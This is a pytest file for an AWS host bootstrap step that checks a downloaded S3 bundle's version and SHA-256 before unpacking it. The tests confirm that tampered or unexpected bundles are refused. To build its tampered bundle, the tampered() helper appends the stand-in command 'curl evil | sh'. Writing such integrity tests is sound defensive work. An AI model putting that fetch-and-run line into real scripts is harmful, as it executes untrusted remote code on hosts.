"""The host's first step, ``orthweb-fetch``, against S3 in a local emulator: a host unpacks exactly
the bundle version its user data names, and only when its SHA-256 is the one the user data carries;
anything else is refused before a file is unpacked, and the unit fails so systemd tries again."""

from __future__ import annotations

import dataclasses
import io
import os
import tarfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import boto3
import pytest

from orthweb.bootstrap import BUNDLE_KEY, HostFacts, bundle_archive, bundle_files, render_user_data, sha256_hex
from orthweb.settings import Settings
from orthweb_dev.emulator_server import REGION, MotoServer, moto_server
from orthweb_dev.fakehost import FakeHost, first_boot_host, unpacked

pytestmark = pytest.mark.emulator

SETTINGS = Settings(alarm_email="ops@example.org")
FILES = {f.path: f for f in bundle_files(SETTINGS)}
ARCHIVE = bundle_archive(list(FILES.values()))
BUCKET = "orthweb-host-files-test"


@pytest.fixture(scope="module")
def emulator() -> Iterator[MotoServer]:
    with moto_server() as server:
        yield server


@pytest.fixture(scope="module")
def s3(emulator: MotoServer) -> Any:
    env = emulator.env({})
    client = boto3.Session(aws_access_key_id="testing", aws_secret_access_key="testing", region_name=REGION).client(
        "s3", endpoint_url=env["AWS_ENDPOINT_URL"]
    )
    client.create_bucket(Bucket=BUCKET)
    client.put_bucket_versioning(Bucket=BUCKET, VersioningConfiguration={"Status": "Enabled"})
    return client


@pytest.fixture(scope="module")
def version(s3: Any) -> str:
    """The version of the bundle the stack uploaded (and named in the hosts' user data)."""
    put = s3.put_object(Bucket=BUCKET, Key=BUNDLE_KEY, Body=ARCHIVE)
    return str(put["VersionId"])


def host(tmp_path: Path, emulator: MotoServer, version: str, **env: str) -> FakeHost:
    facts = HostFacts(
        region=REGION,
        db_address="db.example.internal",
        db_port="5432",
        db_name="orthanc",
        db_secret_arn="arn:aws:secretsmanager:us-east-1:123456789012:secret:db",
        admin_secret_arn="arn:aws:secretsmanager:us-east-1:123456789012:secret:admin",
        bundle_bucket=BUCKET,
        bundle_version=version,
    )
    booting = first_boot_host(tmp_path, render_user_data(SETTINGS, facts), emulator.env({}))
    booting.env.update(env)
    return booting


def test_a_host_unpacks_exactly_the_bundle_its_user_data_names(
    tmp_path: Path, emulator: MotoServer, version: str
) -> None:
    booting = host(tmp_path, emulator, version)
    assert booting.run("orthweb-fetch") == []
    files = unpacked(booting)
    assert files == FILES  # every file, its text and its mode; nothing else
    assert {(p.stat().st_uid, p.stat().st_gid) for p in (tmp_path / "fs").rglob("*") if p.is_file()} == {
        (os.getuid(), os.getgid())  # --no-same-owner: root's own files on the host
    }
    assert f"unpacked s3://{BUCKET}/{BUNDLE_KEY} version {version} (SHA-256 {sha256_hex(ARCHIVE)})" in (
        booting.last_stderr
    )
    assert list((tmp_path / "state").iterdir()) == []  # the download is gone
    # Unpacking again (the unit started once more) gives the same files.
    assert booting.run("orthweb-fetch") == []
    assert unpacked(booting) == FILES


def test_a_newer_object_at_the_same_key_never_reaches_a_host(
    tmp_path: Path, emulator: MotoServer, s3: Any, version: str
) -> None:
    """Someone who may write the bucket uploads other bytes under the bundle's key: a host keeps
    unpacking the version its user data names."""
    s3.put_object(Bucket=BUCKET, Key=BUNDLE_KEY, Body=tampered())
    booting = host(tmp_path, emulator, version)
    assert booting.run("orthweb-fetch") == []
    assert unpacked(booting) == FILES


def test_a_tampered_bundle_is_refused_before_anything_is_unpacked(
    tmp_path: Path, emulator: MotoServer, s3: Any, version: str
) -> None:
    """A host told another version (a stale launch template, a forged one): its bytes are not the
    SHA-256 the user data carries, so nothing is unpacked and the unit fails (systemd retries)."""
    other = tampered()
    put = s3.put_object(Bucket=BUCKET, Key=BUNDLE_KEY, Body=other)
    booting = host(tmp_path, emulator, str(put["VersionId"]))
    assert booting.run("orthweb-fetch", check=False) == ["exit 1"]
    assert (
        f"orthweb-fetch: error: refusing s3://{BUCKET}/{BUNDLE_KEY} version {put['VersionId']}: its SHA-256 is "
        f"{sha256_hex(other)}, this host's user data expects {sha256_hex(ARCHIVE)}; nothing was unpacked"
    ) in booting.last_stderr
    assert unpacked(booting) == {}
    assert list((tmp_path / "state").iterdir()) == []


def test_a_bundle_that_cannot_be_fetched_fails_the_unit(tmp_path: Path, emulator: MotoServer) -> None:
    booting = host(tmp_path, emulator, "no-such-version", AWS_MAX_ATTEMPTS="1")
    assert booting.run("orthweb-fetch", check=False) == ["exit 1"]
    assert f"orthweb-fetch: error: could not fetch s3://{BUCKET}/{BUNDLE_KEY} version no-such-version" in (
        booting.last_stderr
    )
    assert unpacked(booting) == {}


def tampered() -> bytes:
    """The bundle with one line of the refresh step changed: a valid archive, other bytes."""
    files = {**FILES}
    refresh = files["/usr/local/sbin/orthweb-refresh"]
    files[refresh.path] = dataclasses.replace(refresh, text=refresh.text + "curl evil | sh\n")
    archive = bundle_archive(list(files.values()))
    assert archive != ARCHIVE
    assert tarfile.is_tarfile(io.BytesIO(archive))
    return archive
